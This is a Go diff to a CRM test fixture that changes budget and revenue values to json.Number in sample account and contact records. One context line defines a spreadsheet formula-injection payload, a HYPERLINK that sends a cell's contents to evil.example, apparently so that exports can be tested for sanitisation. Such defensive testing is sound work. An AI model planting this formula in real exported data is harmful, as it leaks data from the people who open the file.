@@ -4,6 +4,7 @@ import (
 	"archive/zip"
 	"bytes"
 	"context"
+	"encoding/json"
 	"io"
 	"slices"
 	"strconv"
@@ -33,12 +34,12 @@ func (c *crm) sample(t testing.TB) sample {
 	c.customFields(t)
 	var s sample
 	s.account = c.create(t, c.accounts, records.Input{"name": "PT Maju Jaya Sentosa", "city": "Jakarta", "employees": int64(120),
-		"annual_revenue": "2500000000.75", "tags": []string{"distributor", "b2b"}})
+		"annual_revenue": json.Number("2500000000.75"), "tags": []string{"distributor", "b2b"}})
 	s.budi = c.create(t, c.contacts, records.Input{
 		"first_name": "Budi", "last_name": "Santoso", "emails": []string{"budi@maju.co.id", "Budi.Santoso@Gmail.com"},
 		"phones": []string{"0812-3456-7890", "(021) 555-1234"}, "job_title": "Kepala Pembelian 🚀", "account_id": s.account.ID,
 		"city": "Jakarta", "birth_date": "1985-03-17", "tags": []string{"vip", "jakarta"}, "owner_id": c.sales.UserID,
-		"custom": map[string]any{"budget": "1500000.50", "renewal": "2026-04-01", "vip": true, "score": 4.5, "channels": []string{"wa", "email"}},
+		"custom": map[string]any{"budget": json.Number("1500000.50"), "renewal": "2026-04-01", "vip": true, "score": 4.5, "channels": []string{"wa", "email"}},
 	})
 	s.hyperlink = `=HYPERLINK("http://evil.example/?leak="&A2,"Klik")`
 	s.spill = "Jl. Raya Ubud No. 7, \"Puri\"\nGianyar"
